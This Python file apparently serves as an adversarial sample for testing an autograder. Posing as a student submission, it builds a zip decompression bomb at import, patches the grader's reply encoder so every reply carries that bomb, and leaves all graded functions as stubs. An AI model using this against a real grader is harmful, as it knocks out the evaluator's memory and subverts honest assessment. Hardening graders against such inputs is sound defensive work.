"""Attack: replies whose archive inflates to half a gigabyte in the grader.

At import, the worker saves 512 MiB of zeros with torch.save and rewrites the
archive with deflated records: half a megabyte. Its reply encoder is patched
to send that archive as every reply. The grader's size cap counts the bytes it
receives, while torch.load inflates every record it reads. Every function is
wrong as well: with honest replies it scores 0.
"""

import io
import zipfile

import torch

import autograder.student.wire as wire


def _bomb() -> bytes:  # ATTACK
    honest = zipfile.ZipFile(io.BytesIO(wire.dumps(torch.zeros(2**27))))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for record in honest.infolist():
            archive.writestr(record.filename, honest.read(record.filename))
    return buffer.getvalue()


_BOMB = _bomb()
wire.dumps = lambda value: _BOMB  # ATTACK


def linear_combination(xs, weights):
    return torch.zeros(())


def affine(x, W, b):
    return torch.zeros(())


def derivative(f, x0):
    return 0.0


def select_device(prefer="auto"):
    return torch.device("meta")


def make_loader(x, y, batch_size, shuffle=False, seed=None):
    return None


def train_step(model, loss_fn, optimizer, xb, yb):
    return 0.0
